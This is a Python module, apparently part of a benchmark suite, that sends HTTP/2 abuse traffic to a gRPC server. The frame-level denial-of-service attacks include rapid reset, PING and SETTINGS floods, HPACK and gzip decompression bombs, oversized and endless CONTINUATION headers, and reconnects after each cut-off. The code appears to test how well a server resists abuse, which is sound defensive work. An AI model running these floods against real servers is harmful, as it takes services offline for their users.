"""Frames that cost a server more than they cost the sender, by the thousand: an attack that is cut off comes back."""

import gzip
import struct
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Self

from benchmarks.abuse import asked
from benchmarks.abuse.raw import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LARGEST_FRAME,
    PING,
    RST_STREAM,
    SETTINGS,
    Raw,
    block,
)
from benchmarks.abuse.wire import TEXT_STREAM, TEXT_UNARY, Header, Wire, frame, framed
from h2.errors import ErrorCodes

_BURST = 50  # frames between two looks at what came
_PATIENCE = 5.0
_QUIET = 0.5
_CANCEL = struct.pack(">I", ErrorCodes.CANCEL)


@dataclass
class Sent:
    """What was sent, and how the server put an end to it."""

    count: int = 0
    connections: int = 0
    endings: Counter[str] = field(default_factory=Counter)


class _Attacker:
    """A connection that is opened again when the server has ended it."""

    def __init__(self, address: str, answers: bool = True) -> None:
        self.sent = Sent()
        self._address = address
        self._answers = answers
        self._raw: Raw | None = None
        self._stream = -1

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        if self._raw:
            self._raw.__exit__(None, None, None)

    def send(self, data: bytes, count: int = 1) -> None:
        """Send it, on a new connection where there is none."""
        if self._raw is None:
            self._raw = Raw(self._address, answers=self._answers)
            self._raw.frames(_QUIET)  # some caps hold once the server's settings have been answered
            self._stream = -1
            self.sent.connections += 1
        self._raw.send(data)
        self.sent.count += count

    def stream(self) -> int:
        """The number of the next stream."""
        if self._raw is None:
            self.send(b"", 0)
        self._stream += 2
        return self._stream

    def look(self, wait: float = 0.0) -> bool:
        """Whether something has come, or comes in so many seconds; leaves where the server says so."""
        raw = self._raw
        if raw is None:
            return False
        frames = raw.frames(wait)
        for words in filter(None, map(raw.end_told, frames)):
            self.sent.endings[words] += 1
            raw.ended |= raw.told
        if raw.ended:
            self.sent.endings["closed"] += not raw.told
            raw.__exit__(None, None, None)
            self._raw = None
        return bool(frames)

    def wait_for_end(self) -> None:
        """Wait until the server has ended something that was sent; for ever, it does not."""
        before = self.sent.endings.total()
        limit = time.monotonic() + _PATIENCE
        while self._raw is not None and self.sent.endings.total() == before:
            if time.monotonic() > limit:
                self.sent.endings["nothing"] += 1
            self.look(_QUIET)

    def finish(self) -> Sent:
        """Wait until the server has nothing more to say: all that was sent."""
        while self.look(_QUIET):
            pass
        return self.sent


def rapid_reset(address: str, count: int) -> Sent:
    """Open streams, and reset each in the same breath."""
    opened, message = block(TEXT_STREAM), framed(asked.text_stream())
    with _Attacker(address) as attacker:
        while attacker.sent.count < count:
            for _ in range(_BURST):
                stream = attacker.stream()
                attacker.send(
                    frame(HEADERS, END_HEADERS, stream, opened)
                    + frame(DATA, END_STREAM, stream, message)
                    + frame(RST_STREAM, 0, stream, _CANCEL)
                )
            attacker.look()
        return attacker.finish()


def pings(address: str, count: int) -> Sent:
    """Ping without end, on a connection that asks for nothing."""
    return _repeat(address, count, lambda _: frame(PING, 0, 0, bytes(8)))


def settings(address: str, count: int) -> Sent:
    """Change the settings again and again; each change asks for an answer."""
    return _repeat(address, count, lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 - number % 2)))


def _repeat(address: str, count: int, made: Callable[[int], bytes]) -> Sent:
    with _Attacker(address) as attacker:
        while attacker.sent.count < count:
            attacker.send(b"".join(map(made, range(_BURST))), _BURST)
            attacker.look()
        return attacker.finish()


def packed_headers(address: str, count: int) -> Sent:
    """Headers of 17 KB that unpack to 40 MB: one long field in the server's table, and then only its number."""
    name, value = b"x-a", bytes(4000)
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + _number(len(value) - 127) + value
    bomb = block(TEXT_UNARY) + literal + b"\xbe" * (LARGEST_FRAME - len(literal) - 512)
    return _end_each(address, count, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb))


def fat_headers(address: str, count: int) -> Sent:
    """Metadata of 17 KiB, more than is taken."""
    fat = block(TEXT_UNARY, [(b"x-fat", b"x" * 17 * 1024)])
    return _end_each(
        address,
        count,
        lambda stream: (
            frame(HEADERS, END_STREAM, stream, fat[:LARGEST_FRAME])
            + frame(CONTINUATION, END_HEADERS, stream, fat[LARGEST_FRAME:])
        ),
    )


def gzip_bombs(address: str, count: int) -> Sent:
    """Messages of 200 KB that unpack to 200 MB."""
    bomb = framed(gzip.compress(bytes(200_000_000), 6), compressed=True)
    return _pour_each(address, count, bomb, [(b"grpc-encoding", b"gzip")])


def long_messages(address: str, count: int) -> Sent:
    """Messages that have 100 MB, as much of them as the server takes."""
    return _pour_each(address, count, framed(bytes(100_000_000)))


def _pour_each(address: str, count: int, content: bytes, more: Sequence[Header] = ()) -> Sent:
    """Send a message on one stream after another of the same connection."""
    sent = Sent(connections=1)
    with Wire(address) as wire:
        for _ in range(count):
            stream = wire.head(TEXT_UNARY, more)
            wire.pour(stream, content)
            sent.count += 1
            sent.endings[wire.status(stream) or "nothing"] += 1
    return sent


def _end_each(address: str, count: int, made: Callable[[int], bytes]) -> Sent:
    """Send something on a stream, and wait until the server has ended it, again and again."""
    with _Attacker(address) as attacker:
        while attacker.sent.count < count:
            stream = attacker.stream()
            attacker.send(made(stream))
            attacker.wait_for_end()
        return attacker.finish()


def endless_headers(address: str, count: int) -> Sent:
    """Headers that go on in one frame after another, of 15 KB each, and never end."""
    return _endless(address, count, answers=True)


def endless_unanswered(address: str, count: int) -> Sent:
    """The same of a client that does not answer the server's settings, in which the cap on headers is told."""
    return _endless(address, count, answers=False)


def _endless(address: str, count: int, answers: bool) -> Sent:
    more = (b"\x00\x03x-a" + b"\x7f" + _number(3000 - 127) + b"x" * 3000) * 5
    with _Attacker(address, answers) as attacker:
        while attacker.sent.count < count:
            stream = attacker.stream()
            attacker.send(frame(HEADERS, 0, stream, block(TEXT_UNARY)), 0)
            connections = attacker.sent.connections
            while attacker.sent.connections == connections and attacker.sent.count < count:
                attacker.send(frame(CONTINUATION, 0, stream, more))
                attacker.look()
        return attacker.finish()


def _number(value: int) -> bytes:
    """The rest of a number as HPACK writes it."""
    written = b""
    while value >= 128:
        written += bytes([value % 128 + 128])
        value //= 128
    return written + bytes([value])
